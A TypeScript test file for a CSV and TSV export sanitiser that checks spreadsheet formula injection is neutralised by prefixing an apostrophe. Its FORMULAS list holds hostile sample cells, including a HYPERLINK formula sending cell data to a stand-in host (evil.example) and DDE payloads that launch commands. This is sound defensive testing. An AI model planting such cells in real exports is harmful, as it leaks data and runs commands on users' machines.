import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { Amount } from '../src/amount.js';
import { csvOf } from '../src/csv-text.js';
import { inertText } from '../src/inert-text.js';
import { csvOf as pageCsv, tsvOf } from '../web/src/csv-text.js';

const FORMULAS = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?"&A1)',
  "=cmd|' /C calc'!A0",
  '+1+cmd|x!A0',
  '-1+1',
  '-cmd|x!A0',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '  =1+1',
  '＝1+1',
  '＋1',
  '－1+2',
  '＠SUM(A1)',
  '-2E',
  '+1,000(A1)',
];
const PLAIN = [
  '-1',
  '-1.50',
  '+2',
  '-1,234.5',
  '-1e-7',
  '-12.5%',
  '-',
  'A=1',
  'x+y',
  'HSBC',
  '2026-08-05',
  '',
  "'x",
  '1-2',
];

describe('text for spreadsheets', () => {
  it.each(FORMULAS)('%j is made inert', (text) => expect(inertText(text)).toBe(`'${text}`));
  it.each(PLAIN)('%j stays as it is', (text) => expect(inertText(text)).toBe(text));

  it('numbers stay numbers in every csv', () => {
    expect(csvOf(['a', 'b', 'c'], [[-5, -5n, new Amount(-150n)]])).toBe('a,b,c\n-5,-5,-1.50\n');
    expect(pageCsv([['a'], [-5]])).toBe('a\r\n-5\r\n');
  });

  it('no form that is handed over begins a cell with a formula, heads included', () => {
    const heads = (text: string, delimiter: string): string[] =>
      (parse(text, { delimiter, relax_quotes: true }) as string[][]).flat().map((cell) => cell[0] ?? '');
    for (const text of FORMULAS) {
      expect(heads(csvOf([text], [[text]]), ',')).toEqual(["'", "'"]);
      expect(heads(pageCsv([[text], [text]]), ',')).toEqual(["'", "'"]);
      expect(heads(tsvOf([[text], [text]]), '\t')).toEqual(["'", "'"]);
    }
  });
});
